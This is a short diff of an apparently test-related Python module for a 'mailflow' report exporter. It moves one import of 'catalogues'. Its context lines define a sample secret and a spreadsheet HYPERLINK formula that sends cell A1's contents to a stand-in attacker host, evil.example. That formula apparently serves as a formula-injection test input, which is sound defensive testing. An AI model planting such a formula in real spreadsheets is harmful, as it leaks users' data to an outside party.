@@ -16,7 +16,6 @@ from openpyxl import load_workbook
 from pypdf import PdfReader
 
 from languages import catalogues as known
-from mailflow.app import catalogues
 from mailflow.domain.people import Role
 from mailflow.domain.project import Ref
 from mailflow.domain.record import Record
@@ -31,6 +30,7 @@ from mailflow.report.json_file import json_file
 from mailflow.report.pdf_file import pdf_file
 from mailflow.report.tables import heading, tables, terms
 from mailflow.report.xlsx_file import xlsx_file
+from mailflow.shipped import catalogues
 
 SECRET = "The price is not right for me"
 FORMULA = '=HYPERLINK("http://evil.example?"&A1)'
